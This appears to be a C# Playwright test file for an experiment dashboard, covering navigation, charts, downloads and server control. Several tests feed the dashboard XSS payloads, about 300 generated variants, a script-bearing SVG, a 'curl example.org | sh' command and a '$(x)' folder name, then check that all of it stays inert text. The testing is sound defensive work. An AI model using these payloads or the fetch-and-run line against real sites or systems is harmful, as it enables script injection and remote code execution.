using System.Text.Json.Nodes;
using System.Xml.Linq;
using Kenyon.Experiments.Folders;
using Microsoft.Playwright;

namespace Kenyon.EndToEnd.Browser;

/// <summary>The dashboard as a person uses it, in Chromium.</summary>
public sealed class DashboardTests(BrowserFixture browser) : IClassFixture<BrowserFixture>
{
    private static readonly string[] s_payloads =
    [
        "<script>window.ran=1</script>", "<img src=x onerror=window.ran=1>", "\"><svg onload=window.ran=1>", "javascript:window.ran=1",
        "'-window.ran=1-'", "{{constructor.constructor('window.ran=1')()}}", "<iframe srcdoc='<script>parent.ran=1</script>'>",
        "{a|<b onclick=window.ran=1>}", "=HYPERLINK(\"javascript:window.ran=1\")", "\u2028window.ran=1\u2029",
        "data: x\n\nevent: state",
        "<a href=javascript:window.ran=1 autofocus onfocus=window.ran=1>",
    ];

    [Theory]
    [InlineData(false, 1280)]
    [InlineData(true, 320)]
    public Task Every_page_is_in_order_for_everybody(bool isDark, int width) => LookAtEveryPage(isDark, width);

    [Theory]
    [InlineData(true, 1280)]
    [InlineData(false, 320)]
    [Trait("Category", "Long")]
    public Task Every_page_is_in_order_the_other_way_round_too(bool isDark, int width) => LookAtEveryPage(isDark, width);

    private async Task LookAtEveryPage(bool isDark, int width)
    {
        await using var window = await browser.Open("/", isDark, width);
        int count = 0;
        foreach (string path in await Pages(window))
        {
            await window.Page.GotoAsync(browser.Origin + path);
            await window.Ready();
            foreach (var button in await window.Page.GetByRole(AriaRole.Button, new() { Name = "Table", Exact = true }).AllAsync())
            {
                await button.ClickAsync();
            }

            await window.IsAccessible();
            await window.Keep($"{path.Split('?')[0].Trim('/')}-{count++}-{width}{(isDark ? "-dark" : "")}");
            await window.IsInOrder();
        }
    }

    [Fact]
    public async Task The_list_is_filtered_and_walked_by_keyboard_and_a_link_holds_the_view()
    {
        await using var window = await browser.Open("/");
        var page = window.Page;
        await page.Keyboard.PressAsync("Tab");
        Assert.Equal("Skip to the content", await Focused(page));
        await page.GetByLabel("Condition").FocusAsync();
        await page.Keyboard.TypeAsync("task.rewardNoise = 0.4 and environment.kind = fixed");
        await page.Keyboard.PressAsync("Enter");
        await window.Until("document.getElementById('found').textContent", text => text == "3 runs that meet the condition.");
        Assert.Contains("where=task.rewardNoise", page.Url, StringComparison.Ordinal);
        await page.GetByRole(AriaRole.Button, new() { Name = "Fitness" }).PressAsync("Enter");
        await window.Until(
            "document.querySelector('[aria-sort=descending]')?.textContent", text => text.StartsWith("Fitness", StringComparison.Ordinal));
        Assert.StartsWith("Fitness", await Focused(page), StringComparison.Ordinal);
        await page.Locator("#scroll").FocusAsync();
        await page.Keyboard.PressAsync("ArrowDown");
        await page.Keyboard.PressAsync("ArrowDown");
        string second = await Focused(page);
        Assert.StartsWith("noise/", second, StringComparison.Ordinal);

        await using var other = await browser.Open(new Uri(page.Url).PathAndQuery);
        await other.Until("document.getElementById('found').textContent", text => text == "3 runs that meet the condition.");
        Assert.Equal(second, await other.Page.Locator("#space .row").Nth(1).Locator("a").TextContentAsync());

        Assert.Equal(second, await Focused(page));
        await page.Keyboard.PressAsync("Enter");
        await window.Until("location.pathname", text => text == "/run");
        await window.Until("document.querySelector('h1')?.textContent", text => text == second);
        await page.GoBackAsync(new() { WaitUntil = WaitUntilState.Commit });
        await window.Until("document.getElementById('found').textContent", text => text == "3 runs that meet the condition.");
        await window.IsInOrder();
    }

    [Fact]
    public async Task A_condition_that_cannot_be_understood_says_why()
    {
        await using var window = await browser.Open("/");
        await window.Page.GetByLabel("Condition").FillAsync("stat = done");
        await window.Page.GetByRole(AriaRole.Button, new() { Name = "Show" }).ClickAsync();
        await window.Until("document.getElementById('problem').textContent", text => text.Contains("did you mean state?"));
        Assert.Equal("true", await window.Page.GetByLabel("Condition").GetAttributeAsync("aria-invalid"));
    }

    [Fact]
    public async Task A_chart_is_also_a_table_and_files()
    {
        await using var window = await browser.Open("/?where=experiment+%3D+noise");
        await window.Page.Locator("#space a").First.ClickAsync();
        await window.Until("document.documentElement.dataset.generations", text => text == "30");
        var chart = window.Page.Locator("figure.chart").First;
        await chart.GetByRole(AriaRole.Button, new() { Name = "Table" }).ClickAsync();
        Assert.Equal(31, await chart.Locator("tr").CountAsync());
        await window.Until(
            "document.querySelector('figure.chart .summary').textContent",
            text => text.Contains("After 30 generations", StringComparison.Ordinal));
        var csv = await Download(window.Page, chart, "CSV");
        Assert.Equal(31, csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.StartsWith("generation,best,mean", csv, StringComparison.Ordinal);
        Assert.StartsWith("<svg", await Download(window.Page, chart, "SVG"), StringComparison.Ordinal);
        await window.IsInOrder();
    }

    [Fact]
    public async Task A_life_is_played_by_keyboard()
    {
        await using var window = await browser.Open("/?where=experiment+%3D+noise");
        await window.Page.Locator("#space a").First.ClickAsync();
        await window.Page.GetByRole(AriaRole.Link, new() { Name = "Watch a life" }).ClickAsync();
        await window.Until("document.querySelectorAll('#life canvas').length", text => text is not "0");
        string before = await window.Page.Locator("#life input[type=range]").InputValueAsync();
        await window.Page.Locator("#life input[type=range]").PressAsync("ArrowRight");
        Assert.NotEqual(before, await window.Page.Locator("#life input[type=range]").InputValueAsync());
        await window.Page.GetByLabel("Test lifetime").FillAsync("7");
        await window.Page.Keyboard.PressAsync("Enter");
        await window.Until("location.search", text => text.Contains("lifetime=7"));
        await window.Until("document.querySelectorAll('#life canvas').length", text => text is not "0");
        await window.IsInOrder();
    }

    [Fact]
    public async Task What_is_marked_in_the_table_is_marked_in_the_charts_and_in_the_address()
    {
        await using var window = await browser.Open("/sweep");
        await window.Page.GetByRole(AriaRole.Link, new() { Name = "Compare the conditions of noise" }).ClickAsync();
        await window.Ready();
        await window.Until("document.getElementById('listed')?.textContent", text => text == "12 runs.");
        await window.Page.GetByRole(AriaRole.Checkbox).First.CheckAsync();
        await window.Until("document.getElementById('listed')?.textContent", text => text == "3 runs of the marked conditions.");
        Assert.Contains("chosen=", window.Page.Url, StringComparison.Ordinal);
        await window.Page.GetByLabel("Fitness from").FillAsync("100");
        await window.Page.Keyboard.PressAsync("Enter");
        await window.Until("document.getElementById('listed')?.textContent", text => text == "0 runs of the marked conditions.");
        await window.IsInOrder();
    }

    [Fact]
    public async Task Workers_of_a_cluster_are_named_with_what_they_do()
    {
        ClusterFile.Write(Path.Combine(browser.Root, "noise"), BrowserFixture.Crew("lab-1-ab12")); // news, not of a while ago
        await using var window = await browser.Open("/sweep");
        await window.Page.GetByRole(AriaRole.Link, new() { Name = "noise", Exact = true }).ClickAsync();
        await window.Until("document.getElementById('cluster')?.textContent", text => text.StartsWith(
            "2 workers with 12 threads; in the last minute 10.4 cores' worth of work, 87 % of these threads' time",
            StringComparison.Ordinal));
        string? content = await window.Page.Locator("#content").TextContentAsync();
        Assert.Contains("put out: it computed otherwise", content, StringComparison.Ordinal);
        await window.IsInOrder();
    }

    [Fact]
    public async Task A_match_answers_first_and_an_animal_is_seen_trial_by_trial_by_keyboard()
    {
        await using var window = await browser.Open("/animals");
        var page = window.Page;
        await page.GetByRole(AriaRole.Link, new() { Name = "two.match.json" }).PressAsync("Enter");
        await window.Until("document.getElementById('verdict')?.textContent", text => text == "Most probable: task.steps task.steps. "
            + "On the border of the atlas, so the truth may lie beyond: task.steps.");
        var settings = page.Locator("figure.chart").First;
        Assert.Contains("1 of 2 settings can be told", await settings.Locator(".summary").TextContentAsync(), StringComparison.Ordinal);
        string csv = await Download(page, page.Locator("figure.chart").Nth(1), "CSV");
        Assert.Equal("animal,trials,atlas,task.steps,deltaRule", csv.Split('\n')[0]);
        Assert.Equal(4, csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.Contains(
            "worse by 0.01 nats a trial [−0.01, 0.02]: which is better cannot be told.",
            await page.Locator("figure.chart").Nth(1).Locator(".summary").TextContentAsync(),
            StringComparison.Ordinal);
        await page.GoBackAsync();
        await window.Ready();
        await page.GetByRole(AriaRole.Link, new() { Name = "two.trials.json" }).PressAsync("Enter");
        await window.Until("document.querySelectorAll('#trials figure canvas').length", text => text == "3");
        var answer = new TaskCompletionSource();
        await page.RouteAsync(
            "**/trials?subject=b",
            async route =>
            {
                await answer.Task;
                await route.ContinueAsync();
            });
        await page.Locator("#subject").SelectOptionAsync("b");
        await page.GetByLabel("Trials from").FillAsync("11"); // What is written while the answer is on its way stays.
        answer.SetResult();
        await window.Until("document.querySelector('#trials .summary + p').textContent", text => text.Contains(" of b, trials 1 to 80 "));
        await page.GetByLabel("to", new() { Exact = true }).FillAsync("30");
        await page.Keyboard.PressAsync("Enter");
        await window.Until(
            "document.querySelector('#trials .summary + p').textContent",
            text => text.StartsWith("n = 20 choices of b, trials 11 to 30 of 80", StringComparison.Ordinal));
        string trials = await Download(page, page.Locator("#trials figure").First, "CSV");
        Assert.Equal(21, trials.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
        await window.IsInOrder();
    }

    [Fact]
    public async Task An_animal_that_was_chosen_before_does_not_come_late()
    {
        await using var window = await browser.Open("/animals");
        var page = window.Page;
        await page.GetByRole(AriaRole.Link, new() { Name = "two.trials.json" }).PressAsync("Enter");
        await window.Until("document.querySelectorAll('#trials figure canvas').length", text => text == "3");
        var asked = new TaskCompletionSource();
        var givenUp = new TaskCompletionSource();
        page.RequestFailed += (_, request) =>
        {
            if (request.Url.EndsWith("subject=b", StringComparison.Ordinal))
            {
                givenUp.TrySetResult();
            }
        };
        await page.RouteAsync("**/trials?subject=b", _ => asked.TrySetResult()); // it is never answered
        await page.Locator("#subject").SelectOptionAsync("b");
        await asked.Task.WaitAsync(TimeSpan.FromSeconds(30));
        await page.Locator("#subject").SelectOptionAsync("a");
        await givenUp.Task.WaitAsync(TimeSpan.FromSeconds(30));
        Assert.Equal("a", await page.Locator("#subject").InputValueAsync());
        Assert.Contains("subject=a", page.Url, StringComparison.Ordinal);
        await window.IsInOrder();
    }

    [Fact]
    public async Task An_evolution_is_seen_to_move()
    {
        await using var window = await browser.Open("/");
        await window.Page.GetByLabel("Condition").FillAsync("state ="); // half typed; the list lives on without it
        using var evolution = browser.Start(
            "evolve", "prediction", "--quiet", "--threads", "1", "--set", "optimizer.generations=100000", "--set", "name=moving");
        try
        {
            await window.Until(
                "document.getElementById('work').textContent", text => text.StartsWith("1 at work", StringComparison.Ordinal));
            // At once: where the machine is busy, a list that is written anew all the time never stands still long enough.
            await window.Page.GetByRole(AriaRole.Link, new() { Name = "moving/base" }).ClickAsync(new() { Force = true });
            await window.Until("document.documentElement.dataset.generations", text => text is not ("0" or "undefined"));
            int first = await window.Page.EvaluateAsync<int>("() => Number(document.documentElement.dataset.generations)");
            await window.Until("document.documentElement.dataset.generations", text => int.Parse(text) > first + 20);
            Assert.Equal("running", await window.Page.Locator("#state").TextContentAsync());

            // Where a drawing takes half a second the next one waits for two, whatever comes meanwhile: others have the processor.
            await window.Page.EvaluateAsync("""
                () => {
                  const chart = echarts.getInstanceByDom(document.querySelector('#charts .canvas'));
                  const draw = chart.setOption.bind(chart);
                  const taken = window.taken = [];
                  chart.setOption = (...given) => {
                    const begun = performance.now();
                    while (performance.now() < begun + 500) { }
                    draw(...given);
                    taken.push([begun, performance.now()]);
                  };
                }
                """);
            await window.Until("String(window.taken.length)", text => int.Parse(text) >= 3);
            Assert.True(await window.Page.EvaluateAsync<bool>("""
                () => taken.slice(1).every(([at], index) =>
                  at - taken[index][1] > Math.min(3 * (taken[index][1] - taken[index][0]), 4500))
                """));
        }
        finally
        {
            SmallSweep.Signal(evolution, 2);
            await evolution.WaitForExitAsync();
        }

        await window.Until("document.getElementById('state').textContent", text => text == "interrupted");
        await window.IsInOrder();
    }

    [Fact]
    public async Task An_experiment_is_started_noted_and_stopped_from_its_pages_and_ends_with_the_server()
    {
        string folder = Directory.CreateTempSubdirectory("kenyon-control-").FullName;
        await File.WriteAllTextAsync(
            Path.Combine(folder, "long.yaml"),
            "name: long\ntask: { kind: prediction, trials: 4, steps: 12 }\noptimizer: { populationSize: 12, generations: 1000000 }\n");
        await File.WriteAllTextAsync(Path.Combine(folder, "wrong.yaml"), "name: wrong\ntask: { kind: predction }\n");
        var (server, address) = browser.Serve(folder, "--control");
        await using (var window = await browser.Open("/", address: address))
        {
            var page = window.Page;
            await window.Until("document.querySelectorAll('#control option').length", text => text == "2");
            await page.Locator("#control select").SelectOptionAsync("wrong.yaml");
            await page.GetByRole(AriaRole.Button, new() { Name = "Start", Exact = true }).PressAsync("Enter");
            await window.Until("document.getElementById('problem').textContent", text => text.Contains("prediction?"));
            await page.Locator("#control select").SelectOptionAsync("long.yaml");
            await page.GetByRole(AriaRole.Button, new() { Name = "Start", Exact = true }).PressAsync("Enter");
            await window.Until("document.querySelector('#control td')?.textContent", text => text == "running");
            await window.IsAccessible();
            await window.Keep("control-start");
            await page.GetByRole(AriaRole.Link, new() { Name = "long/base" }).ClickAsync(new() { Force = true });
            await window.Until("document.getElementById('state')?.textContent", text => text == "running");
            await page.Locator("#control input").First.FillAsync("<b>looks odd</b>");
            await page.Locator("#control input").Last.FillAsync("pilot week-2");
            await page.GetByRole(AriaRole.Button, new() { Name = "Keep" }).PressAsync("Enter");
            await window.Until("document.getElementById('result').textContent", text => text.Contains("Tags: pilot, week-2")
                && text.Contains("<b>looks odd</b>"));
            await page.GetByRole(AriaRole.Button, new() { Name = "Stop this run" }).PressAsync("Enter");
            await window.Until("document.getElementById('state').textContent", text => text == "interrupted");
            await window.IsAccessible();
            await window.Keep("control-run");
            await page.GotoAsync(new Uri(address).GetLeftPart(UriPartial.Authority));
            await window.Until("document.querySelector('#control td')?.textContent", text => text == "stopped");
            await page.Locator("#control select").SelectOptionAsync("long.yaml");
            await page.GetByRole(AriaRole.Button, new() { Name = "Start", Exact = true }).PressAsync("Enter");
            await window.Until("document.getElementById('work').textContent", text => text == "1 at work.");
        }

        SmallSweep.Signal(server, 2);
        Assert.True(server.WaitForExit(TimeSpan.FromSeconds(60)), "the server goes on after Ctrl-C");
        Assert.Equal(0, server.ExitCode);
        server.Dispose();
        string manifest = await File.ReadAllTextAsync(Directory.GetFiles(folder, "manifest.json", SearchOption.AllDirectories).Single());
        Assert.Equal("interrupted", (string)JsonNode.Parse(manifest)!["state"]!);
        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public async Task A_page_without_the_token_says_what_to_do()
    {
        var (server, address) = browser.Serve("runs");
        await using var window = await browser.Open("/", address: address);
        await window.Page.Context.ClearCookiesAsync();
        await window.Page.ReloadAsync();
        await window.Until(
            "document.getElementById('problem').textContent", text => text.Contains("Open the address that kenyon serve printed"));
        SmallSweep.Signal(server, 15);
        Assert.True(server.WaitForExit(TimeSpan.FromSeconds(30)));
        Assert.Equal(0, server.ExitCode);
        server.Dispose();
    }

    /// <summary>Texts that would do something if any of them became HTML, a script or a formula somewhere.</summary>
    [Fact]
    public Task Names_and_texts_of_strangers_do_nothing() => LookAtStrangers(s_payloads, 12);

    [Fact]
    [Trait("Category", "Long")]
    public Task Three_hundred_texts_of_strangers_do_nothing() => LookAtStrangers([.. s_payloads, .. MorePayloads().Take(288)], 300);

    /// <summary>Handlers, addresses and ends of what a text could stand in, each with each.</summary>
    private static IEnumerable<string> MorePayloads() =>
        from carrier in (string[])[
            "<img src=x onerror={0}>", "<svg><animate onbegin={0} attributeName=x dur=1s>", "<details open ontoggle={0}>",
            "<video src=x onerror={0}>", "<body onload={0}>", "<input autofocus onfocus={0}>", "<math><mtext><img src=x onerror={0}>",
            "<a href='javascript:{0}'>x", "<iframe src='javascript:parent.{0}'>", "<script>{0}</script>", "<style onload={0}>",
            "<object data='javascript:{0}'>", "<form action='javascript:{0}'><button autofocus onfocus={0}>", "<marquee onstart={0}>",
            "${{{0}}}", "{{{{{0}}}}}", "javascript:{0}", "data:text/html,<script>{0}</script>",
        ]
        from before in (string[])
        [
            "", "\"", "'", "\">", "'>", "</script>", "</title>", "</td></tr></table>", "-->", "]]>", "\\", "\u202e", "`", "<!--",
            "&lt;", "%3C",
        ]
        select before + string.Format(System.Globalization.CultureInfo.InvariantCulture, carrier, "window.ran=1");

    private async Task LookAtStrangers(IReadOnlyList<string> payloads, int opened)
    {
        string folder = Directory.CreateTempSubdirectory("kenyon-hostile-").FullName;
        string source = Directory.GetDirectories(Path.Combine(browser.Root, "noise"))[0];
        int count = 0;
        foreach (string payload in payloads)
        {
            foreach (string run in Directory.GetDirectories(source).Take(payloads.Count > s_payloads.Length ? 1 : 3))
            {
                string name = FileName(payload);
                string copy = Path.Combine(folder, name, $"{name}-{count++}", Path.GetFileName(run));
                Directory.CreateDirectory(Path.Combine(copy, "figures"));
                foreach (string file in Directory.GetFiles(run))
                {
                    File.Copy(file, Path.Combine(copy, Path.GetFileName(file)));
                }

                Spoil(Path.Combine(copy, "manifest.json"), payload, "problem", "host", "processor", "condition", "commit");
                File.Delete(Path.Combine(copy, "summary.json"));
                ClusterFile.Write(Path.GetDirectoryName(Path.GetDirectoryName(copy))!, BrowserFixture.Crew(payload));
                await File.WriteAllTextAsync(
                    Path.Combine(copy, "figures", $"{name}.svg"),
                    $"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.ran=1\"><script>parent.ran=1</script></svg>");
                await File.WriteAllTextAsync(
                    Path.Combine(copy, "figures", $"{name}.json"),
                    new JsonObject { ["title"] = payload, ["alternative"] = payload, ["caption"] = payload }.ToJsonString());
            }
        }

        var (server, address) = browser.Serve(folder);
        await using (var window = await browser.Open("/", address: address))
        {
            string origin = new Uri(address).GetLeftPart(UriPartial.Authority);
            string[] runs = await Links(window, "#space a");
            Assert.True(runs.Length >= 10, "hardly any run is in the list");
            await window.Page.GotoAsync($"{origin}/sweep");
            await window.Ready();
            string[] sweeps = await Links(window, "#content a");
            foreach (string path in runs.Take(opened).Concat(sweeps.Take(opened)))
            {
                await window.Page.GotoAsync(origin + path);
                await window.Ready();
                Assert.Equal("undefined", await window.Page.EvaluateAsync<string>("() => String(window.ran)"));
            }

            await window.IsInOrder();
        }

        SmallSweep.Signal(server, 2);
        await server.WaitForExitAsync();
        server.Dispose();
        Directory.Delete(folder, recursive: true);
    }

    /// <summary>The same in files about animals: names, texts and commands on the page, and in what it gives to be kept.</summary>
    [Fact]
    public async Task Answers_about_animals_of_strangers_do_nothing()
    {
        const string Command = "kenyon match x\ncurl example.org | sh";
        string folder = Directory.CreateTempSubdirectory("kenyon hostile $(x) ' ").FullName;
        foreach (string payload in s_payloads)
        {
            await File.WriteAllTextAsync(Path.Combine(folder, $"{FileName(payload)}.fit.json"), AnimalFolder.Trials([payload], Command));
        }

        await File.WriteAllTextAsync(Path.Combine(folder, "all.match.json"), AnimalFolder.Match(s_payloads, atlas: 0.64, Command));
        await File.WriteAllTextAsync(Path.Combine(folder, "all.trials.json"), AnimalFolder.Trials(s_payloads, Command));
        var (server, address) = browser.Serve(folder);
        await using (var window = await browser.Open("/animals", address: address))
        {
            var page = window.Page;
            Assert.Equal(s_payloads.Length + 2, (await Links(window, "#content a")).Length);
            Assert.Equal(
                $"kenyon fit DATA --json > '{folder.Replace("'", "'\\''", StringComparison.Ordinal)}/NAME.fit.json'",
                await page.Locator(".command code").Nth(1).TextContentAsync());
            await IsHarmless(window);
            foreach (string name in (string[])["all.match.json", $"{FileName(s_payloads[1])}.fit.json", "all.trials.json"])
            {
                await page.GotoAsync(new Uri(address).GetLeftPart(UriPartial.Authority) + "/animals");
                await window.Ready();
                await page.GetByRole(AriaRole.Link, new() { Name = name, Exact = true }).ClickAsync();
                await window.Until("document.querySelector('h1')?.textContent", text => text == name);
                await window.Ready();
                Assert.Contains(
                    "The file's command is not shown", await page.Locator("#answer").TextContentAsync(), StringComparison.Ordinal);
                await IsHarmless(window);
                if (name == "all.match.json")
                {
                    Assert.Contains(
                        "better by 0.03 nats a trial [0.02, 0.05]: the animals have something that the rules of the atlas have not.",
                        await page.Locator("figure.chart").Nth(1).Locator(".summary").TextContentAsync(),
                        StringComparison.Ordinal);
                }
            }

            await page.Locator("#subject").SelectOptionAsync(s_payloads[^1]);
            await window.Until("document.querySelector('#trials .summary + p').textContent", text => text.Contains(s_payloads[^1]));
            await IsHarmless(window);
        }

        SmallSweep.Signal(server, 2);
        await server.WaitForExitAsync();
        server.Dispose();
        Directory.Delete(folder, recursive: true);
    }

    /// <summary>Nothing of what strangers wrote has become anything but text, here and in the files that charts give.</summary>
    private static async Task IsHarmless(Window window)
    {
        var page = window.Page;
        foreach (var chart in await page.Locator("figure.chart").AllAsync())
        {
            if (await chart.Locator("table").CountAsync() == 0)
            {
                await chart.GetByRole(AriaRole.Button, new() { Name = "Table", Exact = true }).ClickAsync();
            }

            var drawing = XDocument.Parse(await Download(page, chart, "SVG"));
            Assert.DoesNotContain(drawing.Descendants(), part => part.Name.LocalName is "script" or "foreignObject" or "iframe" or "a"
                || part.Attributes().Any(attribute => attribute.Name.LocalName.StartsWith("on", StringComparison.OrdinalIgnoreCase)
                    || attribute.Value.StartsWith("javascript:", StringComparison.OrdinalIgnoreCase)));
            Assert.DoesNotMatch("(?:^|[,\n])\"?[=+@]", await Download(page, chart, "CSV"));
        }

        Assert.Equal("undefined", await page.EvaluateAsync<string>("() => String(window.ran)"));
        Assert.Equal(
            0,
            await page.Locator("main :is(script, iframe, img, svg, [onerror], [onload], [onclick], [onfocus], [href^='javascript:'])")
                .CountAsync());
        Assert.DoesNotContain("curl", await page.Locator("body").TextContentAsync(), StringComparison.Ordinal);
        await window.IsInOrder();
    }

    private static string FileName(string payload) =>
        payload.Replace('/', '\u2215').Replace("\n", " ", StringComparison.Ordinal);

    private static void Spoil(string path, string payload, params string[] keys)
    {
        var json = JsonNode.Parse(File.ReadAllText(path))!;
        foreach (string key in keys)
        {
            json[key] = payload;
        }

        File.WriteAllText(path, json.ToJsonString());
    }

    private static async Task<string> Download(IPage page, ILocator chart, string button)
    {
        var control = chart.GetByRole(AriaRole.Button, new() { Name = button, Exact = true });
        IDownload file;
        try
        {
            file = await page.RunAndWaitForDownloadAsync(() => control.ClickAsync(), new() { Timeout = 10_000 });
        }
        catch (TimeoutException)
        {
            // Chromium tells of a file once and never again: on a machine at work that was lost once in some hundred times.
            TestContext.Current.TestOutputHelper?.WriteLine($"{button} was asked for twice");
            file = await page.RunAndWaitForDownloadAsync(() => control.ClickAsync());
        }

        return await File.ReadAllTextAsync(await file.PathAsync());
    }

    private static Task<string> Focused(IPage page) => page.EvaluateAsync<string>("() => document.activeElement.textContent");

    private static Task<string[]> Links(Window window, string selector) => window.Page.EvaluateAsync<string[]>(
        "selector => [...document.querySelectorAll(selector)].map(link => link.getAttribute('href'))", selector);

    /// <summary>Every page, each on something that there is.</summary>
    private async Task<string[]> Pages(Window window)
    {
        string run = (await Links(window, "#space a"))[^1];
        await window.Page.GotoAsync($"{browser.Origin}/sweep");
        await window.Ready();
        string[] sweep = await Links(window, "#content a");
        await window.Page.GotoAsync($"{browser.Origin}/animals");
        await window.Ready();
        string[] animals = await Links(window, "#content a");
        Assert.Equal(2, animals.Length);
        return ["/", run, run.Replace("/run", "/life", StringComparison.Ordinal), "/sweep", .. sweep[^2..], "/animals", .. animals];
    }
}
